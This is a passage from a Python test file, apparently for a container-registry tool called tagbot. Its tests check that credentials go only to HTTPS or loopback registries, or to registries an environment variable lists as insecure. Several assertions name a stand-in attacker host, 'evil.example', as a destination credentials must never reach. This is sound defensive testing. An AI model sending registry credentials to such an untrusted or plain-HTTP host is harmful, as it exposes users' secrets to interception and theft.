    assert found.seen == []
    # The environment names that host: then it is the environment's choice.
    monkeypatch.setenv("TAGBOT_API_URL", f"{url}/docker-api")
    main(["check", "--no-cache"])
    assert found.seen and "x-oanor-key" in found.seen[0]


def test_credentials_never_go_over_plain_http_elsewhere():
    from tagbot.sources.registry import may_send_credentials, secure_for_credentials

    assert secure_for_credentials("https://gitlab.com/jwt/auth")  # a realm the registry names
    assert not secure_for_credentials("http://auth.example/token")

    assert may_send_credentials("https://ghcr.io/token", "ghcr.io")
    assert may_send_credentials("https://registry-1.docker.io", "docker.io")
    assert may_send_credentials("http://127.0.0.1:5000", "127.0.0.1:5000")
    assert not may_send_credentials("http://ghcr.io/token", "ghcr.io")
    assert not may_send_credentials("https://evil.example", "ghcr.io")
    assert not may_send_credentials("http://127.0.0.1:5001", "127.0.0.1:5000")
    assert not may_send_credentials("http://registry.corp:5000", "registry.corp:5000")
    assert not may_send_credentials("http://127.evil.example", "127.evil.example")  # a name, not an address
    assert may_send_credentials("http://[::1]:5000", "[::1]:5000")


def test_the_environment_may_mark_a_registry_insecure(monkeypatch):
    from tagbot.sources.registry import may_send_credentials

    monkeypatch.setenv("TAGBOT_INSECURE_REGISTRIES", "registry.corp:5000, other.corp")
    assert may_send_credentials("http://registry.corp:5000/v2/", "registry.corp:5000")
    assert not may_send_credentials("http://registry.corp:5001/v2/", "registry.corp:5001")
